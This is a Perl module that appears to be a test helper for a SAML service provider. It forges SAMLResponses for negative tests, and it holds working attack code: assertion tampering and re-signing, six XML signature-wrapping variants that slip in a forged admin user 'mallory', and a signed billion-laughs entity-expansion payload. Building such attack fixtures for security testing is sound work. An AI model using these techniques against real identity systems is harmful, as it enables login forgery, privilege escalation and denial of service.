package Identity::SAML::Forge;

# The attacker's kit: reads a real SAMLResponse, changes it, signs it again
# (xmlsec1), wraps signed assertions, builds parser attacks, and verifies
# signatures as xmlsec1 does.  Input and output are base64 as posted.  POD
# at the end.

use strict;
use warnings;

use Exporter 'import';
use MIME::Base64 qw(encode_base64 decode_base64);
use XML::LibXML;

use Identity::SAML::Common qw(:all);

our @EXPORT_OK = qw(
    decode_saml encode_saml saml_doc response_info
    strip_signatures tamper resign forge wrap wrap_variants entity_expansion
    oversize xmlsec_verify
);
our %EXPORT_TAGS = (all => \@EXPORT_OK);

# ------------------------------------------------------------ XML basics

sub decode_saml {
    my ($b64) = @_;
    my $xml = decode_base64($b64);
    die "not base64 XML\n" unless $xml =~ /^\s*</;
    return $xml;
}

sub encode_saml { encode_base64($_[0], '') }

sub _parser {
    return XML::LibXML->new(no_network => 1, load_ext_dtd => 0, expand_entities => 0,
        huge => 0, no_blanks => 0);
}

# saml_doc(B64 or XML) -> XML::LibXML::Document
sub saml_doc {
    my ($in) = @_;
    return $in if ref $in;
    return _parser()->parse_string($in =~ /^\s*</ ? $in : decode_saml($in));
}

sub _xpc {
    my ($node) = @_;
    my $xpc = XML::LibXML::XPathContext->new($node);
    $xpc->registerNs($_, $NS{$_}) for keys %NS;
    return $xpc;
}

sub _find { my ($node, $path) = @_; return _xpc($node)->findnodes($path) }
sub _first { my ($node, $path) = @_; return (_find($node, $path))[0] }

sub _out {
    my ($doc, $xml) = @_;
    return encode_saml($xml // $doc->toString);
}

# ------------------------------------------------------------ reading

# response_info(B64 or XML): the fields tests look at, of the first
# assertion (all of them under "assertions").
sub response_info {
    my ($in) = @_;
    my $doc = saml_doc($in);
    my $root = $doc->documentElement;
    my %r = (
        root => $root->localname,
        response_id => $root->getAttribute('ID'),
        destination => $root->getAttribute('Destination'),
        in_response_to => $root->getAttribute('InResponseTo'),
        issue_instant => $root->getAttribute('IssueInstant'),
        issuer => _text(_first($root, 'saml:Issuer')),
        status => _attr(_first($root, 'samlp:Status/samlp:StatusCode'), 'Value'),
        response_signed => _find($root, 'ds:Signature')->size ? 1 : 0,
        signatures => _find($root, '//ds:Signature')->size,
        assertions => [map { _assertion_info($_) } _find($root, '//saml:Assertion')],
        encrypted_assertions => _find($root, '//saml:EncryptedAssertion')->size,
    );
    %r = (%{$r{assertions}[0]}, %r) if @{$r{assertions}};
    return \%r;
}

sub _text { defined $_[0] ? $_[0]->textContent : undef }
sub _attr { defined $_[0] ? $_[0]->getAttribute($_[1]) : undef }

sub _assertion_info {
    my ($a) = @_;
    my $scd = _first($a, 'saml:Subject/saml:SubjectConfirmation/saml:SubjectConfirmationData');
    my $cond = _first($a, 'saml:Conditions');
    my $authn = _first($a, 'saml:AuthnStatement');
    my $nameid = _first($a, 'saml:Subject/saml:NameID');
    my %attrs;
    for my $at (_find($a, 'saml:AttributeStatement/saml:Attribute')) {
        push @{$attrs{$at->getAttribute('Name')}}, map { $_->textContent }
            _find($at, 'saml:AttributeValue');
    }
    return {
        assertion_id => $a->getAttribute('ID'),
        assertion_issuer => _text(_first($a, 'saml:Issuer')),
        assertion_issue_instant => $a->getAttribute('IssueInstant'),
        assertion_signed => _find($a, 'ds:Signature')->size ? 1 : 0,
        nameid => _text($nameid),
        nameid_format => _attr($nameid, 'Format'),
        sp_name_qualifier => _attr($nameid, 'SPNameQualifier'),
        recipient => _attr($scd, 'Recipient'),
        scd_not_on_or_after => _attr($scd, 'NotOnOrAfter'),
        scd_in_response_to => _attr($scd, 'InResponseTo'),
        not_before => _attr($cond, 'NotBefore'),
        not_on_or_after => _attr($cond, 'NotOnOrAfter'),
        audiences => [map { $_->textContent }
            _find($a, 'saml:Conditions/saml:AudienceRestriction/saml:Audience')],
        authn_instant => _attr($authn, 'AuthnInstant'),
        session_index => _attr($authn, 'SessionIndex'),
        session_not_on_or_after => _attr($authn, 'SessionNotOnOrAfter'),
        attributes => \%attrs,
    };
}

# ------------------------------------------------------------ changing

my $SCD = 'saml:Subject/saml:SubjectConfirmation/saml:SubjectConfirmationData';

# name => [element path from the assertion, attribute (undef: text)]
my %ASSERTION_FIELD = (
    assertion_id => ['.', 'ID'],
    assertion_issuer => ['saml:Issuer', undef],
    assertion_issue_instant => ['.', 'IssueInstant'],
    nameid => ['saml:Subject/saml:NameID', undef],
    nameid_format => ['saml:Subject/saml:NameID', 'Format'],
    recipient => [$SCD, 'Recipient'],
    scd_not_on_or_after => [$SCD, 'NotOnOrAfter'],
    scd_in_response_to => [$SCD, 'InResponseTo'],
    not_before => ['saml:Conditions', 'NotBefore'],
    not_on_or_after => ['saml:Conditions', 'NotOnOrAfter'],
    audience => ['saml:Conditions/saml:AudienceRestriction/saml:Audience', undef],
    authn_instant => ['saml:AuthnStatement', 'AuthnInstant'],
    session_index => ['saml:AuthnStatement', 'SessionIndex'],
    session_not_on_or_after => ['saml:AuthnStatement', 'SessionNotOnOrAfter'],
);

# the same, from the Response
my %RESPONSE_FIELD = (
    response_id => ['.', 'ID'],
    response_issuer => ['saml:Issuer', undef],
    response_issue_instant => ['.', 'IssueInstant'],
    destination => ['.', 'Destination'],
    response_in_response_to => ['.', 'InResponseTo'],
    status => ['samlp:Status/samlp:StatusCode', 'Value'],
);

# one change sets several fields
my %ALIAS = (
    issuer => [qw(response_issuer assertion_issuer)],
    in_response_to => [qw(response_in_response_to scd_in_response_to)],
);

my %TIME_ATTR = map { $_ => 1 } qw(IssueInstant NotBefore NotOnOrAfter AuthnInstant SessionNotOnOrAfter);

sub _set_field {
    my ($ctx, $field, $spec, $value) = @_;
    my ($path, $attr) = @$spec;
    my @nodes = _find($ctx, $path);
    die "no $path for $field\n" if !@nodes && defined $value;
    for my $n (@nodes) {
        if (!defined $value) {
            defined $attr ? $n->removeAttribute($attr) : $n->parentNode->removeChild($n);
        } elsif (defined $attr) {
            $n->setAttribute($attr, $TIME_ATTR{$attr} && $value =~ /^\d+\z/ ? saml_time($value) : $value);
        } else {
            $n->removeChild($_) for $n->childNodes;
            $n->appendText($value);
        }
    }
}

sub _set_attribute {
    my ($a, $name, $values) = @_;
    my $stmt = _first($a, 'saml:AttributeStatement');
    if (!$stmt) {
        return unless defined $values;
        $stmt = $a->addNewChild($NS{saml}, 'saml:AttributeStatement');
    }
    my ($at) = grep { $_->getAttribute('Name') eq $name } _find($stmt, 'saml:Attribute');
    if (!defined $values) {
        $stmt->removeChild($at) if $at;
        return;
    }
    if (!$at) {
        $at = $stmt->addNewChild($NS{saml}, 'saml:Attribute');
        $at->setAttribute(Name => $name);
        $at->setAttribute(NameFormat => 'urn:oasis:names:tc:SAML:2.0:attrname-format:basic');
    }
    $at->removeChild($_) for $at->childNodes;
    for my $v (ref $values ? @$values : $values) {
        my $av = $at->addNewChild($NS{saml}, 'saml:AttributeValue');
        $av->setAttributeNS($NS{xsi}, 'xsi:type', 'xs:string');
        $av->setNamespace($NS{xs}, 'xs', 0);
        $av->appendText($v);
    }
}

sub _shift_times {
    my ($root, $secs) = @_;
    for my $n (_find($root, '//*[@IssueInstant or @NotBefore or @NotOnOrAfter'
        . ' or @AuthnInstant or @SessionNotOnOrAfter]')) {
        for my $attr (grep { $n->hasAttribute($_) } sort keys %TIME_ATTR) {
            my $e = _epoch($n->getAttribute($attr)) // next;
            $n->setAttribute($attr, saml_time($e + $secs));
        }
    }
}

# Applies %changes (see the POD) to the Response element $root and to the
# assertions @as.
sub _apply {
    my ($root, $as, %ch) = @_;
    for my $alias (grep { exists $ch{$_} } keys %ALIAS) {
        my $v = delete $ch{$alias};
        $ch{$_} //= $v for @{$ALIAS{$alias}};
    }
    _shift_times($root, delete $ch{shift_times}) if defined $ch{shift_times};
    for my $f (grep { $RESPONSE_FIELD{$_} } sort keys %ch) {
        _set_field($root, $f, $RESPONSE_FIELD{$f}, delete $ch{$f});
    }
    my $attrs = delete $ch{attributes} // {};
    my @assertion_fields = grep { $ASSERTION_FIELD{$_} } sort keys %ch;
    for my $a (@$as) {
        _set_field($a, $_, $ASSERTION_FIELD{$_}, $ch{$_}) for @assertion_fields;
        _set_attribute($a, $_, $attrs->{$_}) for sort keys %$attrs;
    }
    delete @ch{@assertion_fields};
    for my $pair (@{delete $ch{set} // []}) {
        my ($path, $value) = @$pair;
        my ($el, $attr) = $path =~ m{^(.*)/@([\w:]+)\z} ? ($1, $2) : ($path, undef);
        _set_field($root, $path, [$el, $attr], $value);
    }
    for my $path (@{delete $ch{remove} // []}) {
        $_->parentNode->removeChild($_) for _find($root, $path);
    }
    delete @ch{qw(key cert idp sign_assertion sign_response)};
    die 'unknown change: ' . join(', ', sort keys %ch) . "\n" if %ch;
}

sub _assertions { _find($_[0], '//saml:Assertion') }

sub _strip {
    my ($node) = @_;
    $_->parentNode->removeChild($_) for _find($node, './/ds:Signature');
}

sub strip_signatures {
    my ($b64) = @_;
    my $doc = saml_doc($b64);
    _strip($doc->documentElement);
    return _out($doc);
}

# tamper(B64, %changes): changed, signatures kept (so now wrong).
sub tamper {
    my ($b64, %ch) = @_;
    my $doc = saml_doc($b64);
    my $root = $doc->documentElement;
    _apply($root, [_assertions($root)], %ch);
    return _out($doc);
}

# ------------------------------------------------------------ signing

sub _keys {
    my (%o) = @_;
    my $key = $o{key} // ($o{idp} && $o{idp}{key_file}) or die "resign: no key\n";
    my $cert = $o{cert} // ($o{idp} && $o{idp}{cert_file}) or die "resign: no cert\n";
    return ($key, $cert);
}

sub _template {
    my ($doc, $id) = @_;
    my $sig = $doc->createElementNS($NS{ds}, 'ds:Signature');
    my $si = $sig->addNewChild($NS{ds}, 'ds:SignedInfo');
    $si->addNewChild($NS{ds}, 'ds:CanonicalizationMethod')
        ->setAttribute(Algorithm => 'http://www.w3.org/2001/10/xml-exc-c14n#');
    $si->addNewChild($NS{ds}, 'ds:SignatureMethod')->setAttribute(Algorithm => RSA_SHA256);
    my $ref = $si->addNewChild($NS{ds}, 'ds:Reference');
    $ref->setAttribute(URI => "#$id");
    my $tr = $ref->addNewChild($NS{ds}, 'ds:Transforms');
    $tr->addNewChild($NS{ds}, 'ds:Transform')
        ->setAttribute(Algorithm => 'http://www.w3.org/2000/09/xmldsig#enveloped-signature');
    $tr->addNewChild($NS{ds}, 'ds:Transform')
        ->setAttribute(Algorithm => 'http://www.w3.org/2001/10/xml-exc-c14n#');
    $ref->addNewChild($NS{ds}, 'ds:DigestMethod')
        ->setAttribute(Algorithm => 'http://www.w3.org/2001/04/xmlenc#sha256');
    $ref->addNewChild($NS{ds}, 'ds:DigestValue');
    $sig->addNewChild($NS{ds}, 'ds:SignatureValue');
    $sig->addNewChild($NS{ds}, 'ds:KeyInfo')->addNewChild($NS{ds}, 'ds:X509Data');
    return $sig;
}

# Where SAML wants a Signature (or Response Extensions): right after the
# Issuer.
sub _insert_after_issuer {
    my ($el, $new) = @_;
    my $issuer = _first($el, 'saml:Issuer');
    if ($issuer) {
        $el->insertAfter($new, $issuer);
    } else {
        $el->insertBefore($new, $el->firstChild);
    }
    return $new;
}

sub _add_template {
    my ($el) = @_;
    return _insert_after_issuer($el, _template($el->ownerDocument, $el->getAttribute('ID')));
}

my @ID_ATTRS = map { ('--id-attr:ID', $_) } "$NS{saml}:Assertion", "$NS{samlp}:Response",
    "$NS{samlp}:LogoutRequest", "$NS{samlp}:LogoutResponse", "$NS{samlp}:AuthnRequest";

# Signs the template at $sig (an element of $doc) with xmlsec1; returns the
# signed document (a new one).
sub _xmlsec_sign {
    my ($doc, $sig, $key, $cert) = @_;
    my $mark = _new_id();
    $sig->setAttribute(Id => $mark);
    my $in = _spew(_tmp() . '/sign-in.xml', $doc->toString);
    my $out = _tmp() . '/sign-out.xml';
    unlink $out;
    _run_ok('xmlsec1', '--sign', '--privkey-pem', "$key,$cert", @ID_ATTRS,
        '--node-xpath', "//*[local-name()='Signature' and \@Id='$mark']",
        '--output', $out, $in);
    my $signed = saml_doc(_slurp($out));
    # The Id only told xmlsec1 which template to fill; it is outside the
    # signed data (the enveloped transform removes the whole Signature).
    $_->removeAttribute('Id') for _find($signed, "//ds:Signature[\@Id='$mark']");
    return $signed;
}

# Signs each of @$els (elements of $doc, in order) and returns the new doc.
sub _sign_elements {
    my ($doc, $paths, $key, $cert) = @_;
    for my $path (@$paths) {
        my ($el) = _find($doc, $path) or die "nothing to sign at $path\n";
        $doc = _xmlsec_sign($doc, _add_template($el), $key, $cert);
    }
    return $doc;
}

sub _resign_doc {
    my ($doc, %o) = @_;
    my ($key, $cert) = _keys(%o);
    my $root = $doc->documentElement;
    my $sign_a = $o{sign_assertion} // (_find($root, '//saml:Assertion/ds:Signature')->size > 0);
    my $sign_r = $o{sign_response} // (_find($root, '/*/ds:Signature')->size > 0);
    $sign_a = 1 if !$sign_a && !$sign_r && !defined $o{sign_assertion};
    _strip($root);
    my @paths;
    push @paths, map { '(//saml:Assertion)[' . $_ . ']' } 1 .. _assertions($root)->size if $sign_a;
    push @paths, '/*' if $sign_r;
    return _sign_elements($doc, \@paths, $key, $cert);
}

# resign(B64, key => K, cert => C | idp => IDP, sign_assertion => B, sign_response => B)
sub resign {
    my ($b64, %o) = @_;
    return _out(_resign_doc(saml_doc($b64), %o));
}

# forge(B64, key/cert/idp, sign_assertion, sign_response, %changes):
# changed, then signed again, so that the signatures are valid.
sub forge {
    my ($b64, %o) = @_;
    my $doc = saml_doc($b64);
    my $root = $doc->documentElement;
    my %had = (
        sign_assertion => _find($root, '//saml:Assertion/ds:Signature')->size > 0,
        sign_response => _find($root, '/*/ds:Signature')->size > 0,
    );
    _apply($root, [_assertions($root)], %o);
    return _out(_resign_doc($doc, %had, %o));
}

# ------------------------------------------------------------ wrapping

my %MALLORY = (
    nameid => 'mallory',
    attributes => { uid => 'mallory', mail => 'mallory@evil.test',
        displayName => 'Mallory', groups => ['admin'], eduPersonAffiliation => ['admin'] },
);

# wrap(B64, VARIANT, %changes): XML signature wrapping.  The IdP's signed
# assertion stays intact somewhere in the document (its signature still
# verifies); a forged copy, changed by %changes (default: user mallory), sits
# where an SP that does not tie the signature to the assertion it uses would
# read it.  Signatures on the Response are removed: they would not verify.
my %WRAP = (
    # (a) forged, unsigned, new ID, before the signed one
    assertion_before => sub {
        my ($resp, $orig, $forged) = @_;
        $resp->insertBefore($forged, $orig);
    },
    # forged, unsigned, new ID, after the signed one
    assertion_after => sub {
        my ($resp, $orig, $forged) = @_;
        $resp->insertAfter($forged, $orig);
    },
    # (b) the signed one moved into samlp:Extensions, the forged in its place
    extensions => sub {
        my ($resp, $orig, $forged) = @_;
        $resp->replaceChild($forged, $orig);
        my $ext = $resp->ownerDocument->createElementNS($NS{samlp}, 'samlp:Extensions');
        $ext->appendChild($orig);
        _insert_after_issuer($resp, $ext);
    },
    # (b) the forged one in its place, carrying a copy of the IdP's Signature
    # whose ds:Object holds the signed assertion
    object => sub {
        my ($resp, $orig, $forged) = @_;
        $resp->replaceChild($forged, $orig);
        my $sig = _first($orig, 'ds:Signature')->cloneNode(1);
        my $obj = $sig->addNewChild($NS{ds}, 'ds:Object');
        $obj->appendChild($orig);
        _insert_after_issuer($forged, $sig);
    },
    # (c) forged one with the same ID (and a copy of the IdP's Signature)
    # before the signed one
    same_id => sub {
        my ($resp, $orig, $forged) = @_;
        $forged->setAttribute(ID => $orig->getAttribute('ID'));
        my $sig = _first($orig, 'ds:Signature')->cloneNode(1);
        _insert_after_issuer($forged, $sig);
        $resp->insertBefore($forged, $orig);
    },
    # the whole signed Response (Response signature kept) inside the
    # Extensions of a new Response (new ID) that carries the forged assertion
    response_wrap => sub {
        my ($resp, $orig, $forged, $doc, $orig_resp) = @_;
        $resp->replaceChild($forged, $orig);
        my $ext = $doc->createElementNS($NS{samlp}, 'samlp:Extensions');
        $ext->appendChild($orig_resp);
        _insert_after_issuer($resp, $ext);
        $resp->setAttribute(ID => _new_id());
    },
);

sub wrap_variants { sort keys %WRAP }

sub wrap {
    my ($b64, $variant, %ch) = @_;
    my $how = $WRAP{$variant} or die "unknown wrapping variant $variant\n";
    %ch = (%MALLORY, %ch) unless %ch;
    my $doc = saml_doc($b64);
    my $resp = $doc->documentElement;
    my $orig_resp = $resp->cloneNode(1);
    my @as = _assertions($resp) or die "wrap: no assertion\n";
    my ($orig) = (grep({ _find($_, 'ds:Signature')->size } @as), @as);
    die "wrap $variant: the assertion is not signed\n"
        if $variant =~ /^(object|same_id)\z/ && !_find($orig, 'ds:Signature')->size;
    my $forged = $orig->cloneNode(1);
    _strip($forged);
    $forged->setAttribute(ID => _new_id());
    $_->parentNode->removeChild($_) for _find($resp, 'ds:Signature');
    _apply($resp, [$forged], %ch);
    $how->($resp, $orig, $forged, $doc, $orig_resp);
    return _out($doc);
}

# ------------------------------------------------------------ parser attacks

# entity_expansion(B64, levels => 5, fanout => 10, field => 'nameid',
#                  key/cert/idp => ...): a DOCTYPE with nested internal
# entities; the NameID (or an attribute's first value, field => 'attr:NAME')
# holds the outermost one, which expands to fanout**levels times "lol".
# With key/cert, the document is signed as if the entity were expanded, so
# the signature verifies for a parser that expands entities.
sub entity_expansion {
    my ($b64, %o) = @_;
    my $levels = $o{levels} // 5;
    my $fanout = $o{fanout} // 10;
    my $field = $o{field} // 'nameid';
    my $doc = saml_doc($b64);
    my $root = $doc->documentElement;
    my $marker = 'EXPAND' . _new_id();
    if ($field =~ /^attr:(.+)/) {
        _apply($root, [_assertions($root)], attributes => { $1 => $marker });
    } else {
        _apply($root, [_assertions($root)], $field => $marker);
    }
    my $expanded = 'lol' x ($fanout ** $levels);
    my $xml;
    if ($o{key} || $o{idp}) {
        my $tmp = $doc->toString;
        $tmp =~ s/\Q$marker\E/$expanded/g;
        $xml = _resign_doc(saml_doc($tmp), %o)->toString;
        $xml =~ s/\Q$expanded\E/&e$levels;/g;
    } else {
        $xml = $doc->toString;
        $xml =~ s/\Q$marker\E/&e$levels;/g;
    }
    my $dtd = "<!DOCTYPE samlp:Response [\n  <!ENTITY e0 \"lol\">\n"
        . join('', map { "  <!ENTITY e$_ \"" . ("&e" . ($_ - 1) . ';') x $fanout . "\">\n" } 1 .. $levels)
        . "]>\n";
    $xml =~ s/^(<\?xml[^>]*\?>\s*)?/($1 \/\/ '') . $dtd/e;
    return encode_saml($xml);
}

# oversize(B64, size => 1_200_000, key/cert/idp => ...): padded with one
# more attribute until the base64 is at least size bytes; signed again
# when given a key, so only its size is wrong.
sub oversize {
    my ($b64, %o) = @_;
    my $size = $o{size} // 1_200_000;
    my $doc = saml_doc($b64);
    my $root = $doc->documentElement;
    my $pad = int(($size - length $b64) * 3 / 4) + 1024;
    $pad = 0 if $pad < 0;
    _apply($root, [_assertions($root)], attributes => { padding => 'x' x $pad });
    return _out($o{key} || $o{idp} ? _resign_doc($doc, %o) : $doc);
}

# ------------------------------------------------------------ verifying

# xmlsec_verify(B64 or XML, cert => FILE | idp => IDP, node => WHICH)
# WHICH: 'first' (default: the first ds:Signature in document order),
# 'response', 'assertion' (the first assertion's), or an XPath.
# Returns 1 or 0; in list context (ok, xmlsec1 output).
sub xmlsec_verify {
    my ($in, %o) = @_;
    my $cert = $o{cert} // $o{idp}{cert_file};
    my $xml = ref $in ? $in->toString : $in =~ /^\s*</ ? $in : decode_saml($in);
    if ($o{expand_entities}) {
        # xmlsec1 does not expand entities, and libxml2 refuses nested ones
        # unless told the document may be huge
        my $doc = XML::LibXML->new(expand_entities => 1, load_ext_dtd => 1, huge => 1,
            no_network => 1)->parse_string($xml);
        $doc->removeInternalSubset;
        $xml = $doc->toString;
    }
    my $file = _spew(_tmp() . '/verify.xml', $xml);
    my $node = $o{node} // 'first';
    my %xpath = (
        response => "/*/*[local-name()='Signature']",
        assertion => "(//*[local-name()='Assertion'])[1]/*[local-name()='Signature']",
    );
    my @node = $node eq 'first' ? () : ('--node-xpath', $xpath{$node} // $node);
    my ($rc, $out) = _run('xmlsec1', '--verify', '--pubkey-cert-pem', $cert, @ID_ATTRS, @node, $file);
    my $ok = $rc == 0 && $out =~ /^OK\b/m ? 1 : 0;
    return wantarray ? ($ok, $out) : $ok;
}

1;

__END__

=head1 NAME

Identity::SAML::Forge - reading and forging SAMLResponses for the tests

=head1 SYNOPSIS

    use Identity::SAML qw(:all);

    my $got = $ua->saml_response("http://127.0.0.1:$n/", user => 'alice');
    my $bad = forge($got->{SAMLResponse}, idp => $idp, audience => 'someone-else');
    is($ua->saml_post($got, SAMLResponse => $bad)->{status}, 403);

=head1 READING AND FORGING RESPONSES

All of these take a base64 SAMLResponse (as posted) and return base64 ready
to POST. C<key>, C<cert> are PEM files; C<< idp => $idp >> means the IdP's
own key and certificate (a forgery signed with it verifies: the SP has to
refuse it for what it says).

=over

=item decode_saml(B64) -> XML, encode_saml(XML) -> B64, saml_doc(B64 or XML) -> XML::LibXML::Document

=item response_info(B64 or XML)

A hashref: C<root>, C<response_id>, C<destination>, C<in_response_to>,
C<issue_instant>, C<issuer>, C<status>, C<response_signed>, C<signatures>
(count, anywhere), C<encrypted_assertions>, C<assertions> (a list of the
following, one per Assertion), and the first assertion's C<assertion_id>,
C<assertion_issuer>, C<assertion_issue_instant>, C<assertion_signed>, C<nameid>, C<nameid_format>,
C<sp_name_qualifier>, C<recipient>, C<scd_not_on_or_after>,
C<scd_in_response_to>, C<not_before>, C<not_on_or_after>, C<audiences> (list),
C<authn_instant>, C<session_index>, C<session_not_on_or_after>,
C<attributes> (C<< { Name => [values] } >>).

=item strip_signatures(B64)

Every ds:Signature removed.

=item tamper(B64, %changes)

The changes made; signatures left as they were, so they no longer verify.

=item forge(B64, idp => $idp | key => K, cert => C, sign_assertion => B, sign_response => B, %changes)

The changes made, then signed again: what was signed before (Response,
assertion or both) unless C<sign_*> says otherwise; an assertion-signed
document is signed assertion first, then Response.

=item resign(B64, idp => $idp | key => K, cert => C, sign_assertion => B, sign_response => B)

Signatures replaced by new ones (the same default). Signatures are
enveloped, exclusive c14n, rsa-sha256, sha256 digest, the certificate in
KeyInfo, placed right after the Issuer; made by C<xmlsec1 --sign>.

=item %changes

A value of undef removes the attribute (or the element). Times may be given
as epoch seconds.

    destination              Response/@Destination
    response_id              Response/@ID
    response_issuer          Response/Issuer
    response_issue_instant   Response/@IssueInstant
    response_in_response_to  Response/@InResponseTo
    status                   Response/Status/StatusCode/@Value
    assertion_id             Assertion/@ID
    assertion_issuer         Assertion/Issuer
    assertion_issue_instant  Assertion/@IssueInstant
    nameid, nameid_format    Subject/NameID, its @Format
    recipient                SubjectConfirmationData/@Recipient
    scd_not_on_or_after      SubjectConfirmationData/@NotOnOrAfter
    scd_in_response_to       SubjectConfirmationData/@InResponseTo
    not_before               Conditions/@NotBefore
    not_on_or_after          Conditions/@NotOnOrAfter
    audience                 Conditions/AudienceRestriction/Audience
    authn_instant, session_index, session_not_on_or_after   AuthnStatement
    issuer                   both Issuers
    in_response_to           both InResponseTo
    attributes               { Name => 'v' | [values] | undef }
    shift_times              seconds added to every time in the document
    set                      [ [XPATH => value], ... ]  (XPATH/@attr for
                             an attribute; prefixes samlp saml ds md xs xsi)
    remove                   [ XPATH, ... ]

=item wrap(B64, VARIANT, %changes)

XML signature wrapping. The IdP's signed assertion stays in the document,
intact, so its signature still verifies; a forged copy (new ID, no
signature; changed by %changes, by default user C<mallory>, mail
C<mallory@evil.test>, groups C<[admin]>) is where a careless SP would read
it. Response signatures are removed (they could not verify) except in
C<response_wrap>. If no assertion is signed (C<< sign_assertion => 0 >>),
the first one plays the signed one's part; C<object> and C<same_id> then
die. Variants (C<Identity::SAML::wrap_variants()>):

    assertion_before  (a) the forged assertion before the signed one
    assertion_after   the forged assertion after the signed one
    extensions        (b) the signed one moved into samlp:Extensions (after
                      the Response's Issuer), the forged one in its place
    object            (b) the forged one in its place, holding a copy of the
                      IdP's ds:Signature whose ds:Object holds the signed one
    same_id           (c) the forged one has the signed one's ID and a copy
                      of its ds:Signature, and comes first
    response_wrap     the whole original Response, its signature intact,
                      in the Extensions of a Response with a new ID whose
                      assertion is the forged one

What xmlsec1 (first signature in document order) says: C<assertion_before>,
C<assertion_after>, C<extensions>, C<response_wrap> verify; C<object> does
not (the copied signature's enveloped transform removes the whole Object),
though the IdP's signature inside it does when pointed at (C<node>);
C<same_id> does not load ("duplicate ID"). t/05-saml-idp.t checks all this.

=item entity_expansion(B64, levels => 5, fanout => 10, field => 'nameid' | 'attr:NAME', idp/key/cert)

A DOCTYPE with nested internal entities ("billion laughs", small): the NameID
(or that attribute's value) is C<&e5;>, which expands to 10**5 times "lol"
(300 KB from less than 1 KB). With a key the document is signed over the
expanded text, so the signature verifies for a parser that expands entities.
Note: Debian 12's libxml2 (2.9.14) refuses to expand even two levels of such
nesting ("Detected an entity reference loop") unless parsing with
XML_PARSE_HUGE, and xmlsec1 does not expand entities at all (its c14n fails
on the entity reference); see C<< xmlsec_verify(expand_entities => 1) >>.

=item oversize(B64, size => 1_200_000, idp/key/cert)

An extra attribute C<padding> makes the base64 at least C<size> bytes; signed
again when given a key.

=item xmlsec_verify(B64 or XML, idp => $idp | cert => FILE, node => 'first' | 'response' | 'assertion' | XPATH, expand_entities => 1)

Runs C<xmlsec1 --verify --pubkey-cert-pem CERT --id-attr:ID ...> on one
signature (by default the first in document order, as xmlsec1 does).
The certificate in KeyInfo is not trusted (xmlsec1 says so in its output
and goes on with CERT). With C<expand_entities>, the document is first
parsed with entity expansion (and XML_PARSE_HUGE) and written out without
its DOCTYPE, as a careless SP would see it. Returns 1 or 0; in list context
also xmlsec1's output.

=back

=cut
